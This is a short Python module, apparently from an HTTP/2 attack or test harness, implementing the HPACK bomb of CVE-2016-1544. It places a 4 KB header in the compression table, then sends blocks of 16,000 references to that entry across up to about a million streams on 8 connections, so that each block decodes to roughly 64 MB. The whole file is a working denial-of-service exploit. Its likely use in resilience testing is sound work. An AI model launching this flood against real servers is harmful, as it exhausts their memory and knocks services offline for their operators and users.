"""Header blocks of 16 KB that refer to one field of 4 KB sixteen thousand times
(CVE-2016-1544, HPACK bomb): 64 MB when decoded without a limit."""

import frames
from attack import Attack

ATTACK = Attack()


async def run(target):
    large = frames.head(more=frames.field(b"x", b"v" * 4000, kept=True))
    # 62 is the newest entry of the table that is not of the standard.
    bomb = frames.head(more=b"\xbe" * 16_000)

    def batches():
        yield frames.request(1, large)
        for stream in range(3, 1 << 20, 2):
            yield frames.request(stream, bomb)

    return await target.flood(8, frames.opening(), batches)
